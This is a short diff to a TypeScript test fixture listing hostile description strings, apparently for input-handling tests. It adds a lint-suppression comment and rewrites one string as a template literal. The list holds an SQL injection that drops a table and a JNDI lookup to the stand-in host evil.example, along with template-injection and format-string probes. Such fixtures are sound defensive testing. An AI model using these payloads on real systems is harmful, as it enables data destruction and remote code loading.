@@ -10,8 +10,9 @@ export const HOSTILE_DESCRIPTIONS: readonly string[] = [
   "-2+3\tand a tab",
   `invoice-${RIGHT_TO_LEFT}`,
   "Zalgo: Z\u0351\u036B\u0343a\u0313\u035Blgo, emoji 🧥👗, null-like \u2400, newline\nsecond line",
-  "long ".repeat(1638) + "en",
+  `${"long ".repeat(1638)}en`,
   "'; DROP TABLE keys; --",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker would write.
   "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
 ];
 
